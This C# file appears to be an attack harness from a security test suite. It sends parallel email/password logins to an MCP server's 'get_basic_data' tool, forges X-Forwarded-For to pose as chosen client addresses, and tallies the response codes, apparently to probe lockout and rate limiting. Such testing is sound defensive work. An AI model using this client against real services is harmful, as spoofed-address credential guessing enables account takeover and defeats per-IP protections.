using System.Text;
using System.Text.Json;

namespace Oig.Attack;

/// <summary>Calls <c>get_basic_data</c> over HTTP, through a proxy that tells the address <paramref name="from"/>.</summary>
public sealed class Client(Uri mcp, string from = "203.0.113.9") : IDisposable
{
    private const string Body = """{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_basic_data","arguments":{}}}""";

    private readonly HttpClient _http = new(new SocketsHttpHandler { MaxConnectionsPerServer = 256 }) { Timeout = TimeSpan.FromMinutes(2) };

    /// <summary>Code of the error, <c>success</c>, or the status of an answer that is not 200.</summary>
    public async Task<string> CallAsync(string email, string password, string? alsoFrom = null)
    {
        using var request = new HttpRequestMessage(HttpMethod.Post, mcp) { Content = new StringContent(Body, Encoding.UTF8, "application/json") };
        request.Headers.Add("Accept", "application/json, text/event-stream");
        request.Headers.Add("X-Forwarded-For", alsoFrom ?? from);
        request.Headers.Add("Authorization", $"Basic {Convert.ToBase64String(Encoding.UTF8.GetBytes($"{email}:{password}"))}");
        using var response = await _http.SendAsync(request);
        return response.IsSuccessStatusCode ? CodeIn(await response.Content.ReadAsStringAsync()) : $"HTTP {(int)response.StatusCode}";
    }

    /// <summary>The calls, so many at a time; how often each answer came.</summary>
    public async Task<IReadOnlyDictionary<string, int>> CallAllAsync(IEnumerable<(string Email, string Password)> calls, int atATime)
    {
        var answers = new System.Collections.Concurrent.ConcurrentDictionary<string, int>();
        await Parallel.ForEachAsync(calls, new ParallelOptions { MaxDegreeOfParallelism = atATime }, async (call, _) =>
            answers.AddOrUpdate(await CallAsync(call.Email, call.Password), 1, (_, count) => count + 1));
        return answers;
    }

    public void Dispose() => _http.Dispose();

    private static string CodeIn(string answer)
    {
        var json = answer.Split('\n').FirstOrDefault(line => line.StartsWith("data:", StringComparison.Ordinal))?[5..] ?? answer;
        using var document = JsonDocument.Parse(json);
        var reply = document.RootElement.GetProperty("result").GetProperty("structuredContent");
        return (reply.TryGetProperty("code", out var code) ? code : reply.GetProperty("status")).GetString()!;
    }
}
